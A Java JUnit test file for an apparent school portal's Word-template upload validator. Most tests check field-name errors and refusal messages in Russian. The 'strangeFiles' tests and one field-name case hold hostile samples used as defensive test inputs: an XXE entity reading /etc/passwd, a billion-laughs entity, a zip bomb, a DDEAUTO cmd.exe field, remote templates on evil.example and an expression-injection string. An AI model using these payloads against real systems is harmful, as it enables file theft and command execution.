package ru.smolensk.mentoring.signing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import ru.smolensk.mentoring.platform.Refusal;
import ru.smolensk.mentoring.testing.SampleFiles;

/** What the portal takes as a template, and what it says of everything else. */
class TemplateFileTest {

    private static final String BODY = "word/document.xml";

    static byte[] changed(String part, UnaryOperator<String> change) {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(BuiltInTemplatesTest.builtIn(PaperKind.ASSIGNMENT_ORDER)))) {
            Map<String, byte[]> parts = new LinkedHashMap<>();
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
            parts.put(part, change.apply(new String(parts.getOrDefault(part, new byte[0]), StandardCharsets.UTF_8))
                    .getBytes(StandardCharsets.UTF_8));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream written = new ZipOutputStream(out)) {
                for (var one : parts.entrySet()) {
                    written.putNextEntry(new ZipEntry(one.getKey()));
                    written.write(one.getValue());
                }
            }
            return out.toByteArray();
        } catch (IOException broken) {
            throw new UncheckedIOException(broken);
        }
    }

    /** The order with one more paragraph. */
    static byte[] saying(String words) {
        return changed(BODY, xml -> xml.replaceFirst("<w:sectPr", "<w:p><w:r><w:t>" + words.replace("$", "\\$")
                + "</w:t></w:r></w:p><w:sectPr"));
    }

    private static String refusal(byte[] content) {
        Refusal refusal = catchThrowableOfType(Refusal.class, () -> TemplateFile.expectFit(content, PaperKind.ASSIGNMENT_ORDER));
        assertThat(refusal).as("refused").isNotNull();
        assertThat(refusal.field()).isEqualTo("file");
        return refusal.all().stream().map(Throwable::getMessage).reduce("", (all, one) -> all + one + "\n");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            {{нет такого поля}}                 | Поля «{{нет такого поля}}» у этого документа нет
            {{Номер Приказа}}                   | Наберите «{{номер приказа}}»
            {{ номер приказа }}                 | Наберите «{{номер приказа}}»
            {{цель}}                            | Поля «{{цель}}» у этого документа нет
            {{@номер приказа}}                  | Наберите «{{номер приказа}}»
            {{+номер приказа}}                  | Наберите «{{номер приказа}}»
            {{?номер приказа}}                  | Наберите «{{номер приказа}}»
            {{/}}                               | Поля «{{/}}» у этого документа нет
            {{T(java.lang.Runtime).getRuntime()}} | у этого документа нет
            {{номер приказа.class}}             | у этого документа нет
            {{номер приказа                     | Поле не закрыто или не открыто
            номер приказа}}                     | Поле не закрыто или не открыто
            {{пары}}                            | стоит в ячейке, а не в тексте
            {{фио}}                             | Это поле строки «{{ознакомлены}}»: наберите «[фио]»
            {{любимый цвет}}                    | Список полей – ниже на этой странице
            """)
    void aFieldThatIsNoneIsRefusedByItsName(String words, String message) {
        assertThat(refusal(saying(words))).contains(message);
    }

    @Test
    void everythingThatIsWrongIsSaidAtOnce() {
        assertThat(refusal(saying("{{раз}} и {{два}} и {{три"))).contains("{{раз}}", "{{два}}", "{{три");
    }

    @Test
    void aFieldOfARowThatIsNoneIsRefusedByItsName() {
        assertThat(refusal(changed(BODY, xml -> xml.replace("[срок]", "[срочно]")))).contains("нет поля «[срочно]»", "[срок]");
        assertThat(refusal(changed(BODY, xml -> xml.replace("[срок]", "[?срок]")))).contains("нет поля «[?срок]»");
        assertThat(refusal(changed(BODY, xml -> xml.replace("[срок]", "[срок")))).contains("квадратная скобка");
        assertThat(refusal(changed(BODY, xml -> xml.replace("[срок]", "{{номер приказа}}")))).contains("в квадратных");
    }

    @Test
    void aFieldThatWordHasTornApartIsStillAField() {
        byte[] torn = changed(BODY, xml -> xml.replaceFirst("<w:sectPr",
                "<w:p><w:r><w:t>{{номер </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>приказа}</w:t></w:r>"
                + "<w:r><w:t>}</w:t></w:r></w:p><w:sectPr"));
        assertThatCode(() -> TemplateFile.expectFit(torn, PaperKind.ASSIGNMENT_ORDER)).doesNotThrowAnyException();
        assertThat(TemplateFile.leftOver(Filling.filled(torn, DrawnUp.sample(PaperKind.ASSIGNMENT_ORDER)))).isEmpty();
    }

    static Stream<Arguments> strangeFiles() {
        byte[] whole = SampleFiles.docx();
        return Stream.of(
                Arguments.of("empty", new byte[0], "Файл пустой"),
                Arguments.of("text", "просто текст".getBytes(StandardCharsets.UTF_8), "Это не документ Word"),
                Arguments.of("PDF", SampleFiles.pdf(), "Это не документ Word"),
                Arguments.of("picture", SampleFiles.png(), "Это не документ Word"),
                Arguments.of("zip", SampleFiles.zip(), "Это не документ Word"),
                Arguments.of("XLSX", SampleFiles.xlsx(), "Это не документ Word"),
                Arguments.of("ODT", SampleFiles.odt(), "Это не документ Word"),
                Arguments.of("old Word", SampleFiles.doc(), "старого Word"),
                Arguments.of("old Excel", SampleFiles.xls(), "Это не документ Word"),
                Arguments.of("locked", SampleFiles.lockedDocx(), "защищён паролем"),
                Arguments.of("DOCM", SampleFiles.docm(), "макросы"),
                Arguments.of("macros in disguise", SampleFiles.docxWithMacros(), "макросы"),
                Arguments.of("half", java.util.Arrays.copyOf(whole, whole.length / 2), "повреждён"),
                Arguments.of("too large", java.util.Arrays.copyOf(whole, TemplateFile.LIMIT + 1), "больше 1 МБ"),
                Arguments.of("broken XML", changed(BODY, xml -> xml.substring(0, xml.length() / 2)), "повреждён"),
                Arguments.of("bomb", changed("word/media/zero.xml", xml -> " ".repeat(60 * 1024 * 1024)), "больше данных"),
                Arguments.of("DTD", changed(BODY, xml -> xml.replaceFirst("<w:document",
                "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document")),
                        "объявления"),
                Arguments.of("laughs", changed("word/settings.xml", xml -> "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b "
                + "\"&a;&a;\">]><x>&b;</x>"), "объявления"),
                Arguments.of("foreign template", changed("word/_rels/settings.xml.rels", xml -> relationship("attachedTemplate",
                "http://evil.example/t.dotm")),
                        "привязан к чужому шаблону"),
                Arguments.of("foreign picture", changed("word/_rels/document.xml.rels",
                xml -> relationship("image", "http://evil.example/p.png")), "из другого места"),
                Arguments.of("link to a file", changed("word/_rels/document.xml.rels", xml -> relationship("hyperlink",
                "file:///c:/secret")), "из другого места"),
                Arguments.of("field that includes", changed(BODY, xml -> xml.replaceFirst("<w:sectPr",
                        "<w:p><w:r><w:instrText> INCLUDETEXT \"c:/secret.docx\" </w:instrText></w:r></w:p><w:sectPr")),
                        "берёт содержимое из другого места"),
                Arguments.of("DDE", changed(BODY, xml -> xml.replaceFirst("<w:sectPr",
                        "<w:p><w:fldSimple w:instr=\"DDEAUTO c:/cmd.exe\"/></w:p><w:sectPr")), "берёт содержимое из другого места"),
                Arguments.of("foreign text", changed(BODY, xml -> xml.replaceFirst("<w:sectPr", "<w:altChunk/><w:sectPr")),
                "текст другого документа"),
                Arguments.of("text box", changed(BODY, xml -> xml.replaceFirst("<w:sectPr",
                        "<w:p><w:r><w:pict><w:txbxContent><w:p/></w:txbxContent></w:pict></w:r></w:p><w:sectPr")), "есть надпись"),
                Arguments.of("object", changed("word/embeddings/oleObject1.bin", xml -> "x"), "вложен другой файл"));
    }

    private static String relationship(String type, String target) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r9\" "
                + "TargetMode=\"External\" "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + type + "\" Target=\"" + target
                + "\"/></Relationships>";
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("strangeFiles")
    void whatIsNoHarmlessTemplateIsRefusedWithAClearSentence(String name, byte[] content, String message) {
        assertThat(refusal(content)).contains(message);
    }

    @Test
    void aTemplateWithoutASingleFieldIsRefused() {
        assertThat(refusal(changed(BODY, xml -> xml.replaceAll("[{}\\[\\]]", "")))).contains("нет ни одного поля");
    }

    @Test
    void aLinkToASiteStays() {
        byte[] linked = changed("word/_rels/settings.xml.rels", xml -> relationship("hyperlink", "https://school.example"));
        assertThatCode(() -> TemplateFile.expectFit(linked, PaperKind.ASSIGNMENT_ORDER)).doesNotThrowAnyException();
    }

    @Test
    void noTwoFieldsOfAKindHaveTheSameNameAndEachIsExplained() {
        for (PaperKind kind : PaperKind.values()) {
            assertThat(Stream.concat(kind.fields().stream().map(MergeField::name), kind.rows().stream().map(RepeatedRow::name)).toList())
                    .doesNotHaveDuplicates();
            assertThat(kind.fields()).allMatch(field -> !field.meaning().isBlank() && !field.name().matches(".*[\\[\\]{}].*"));
        }
    }
}
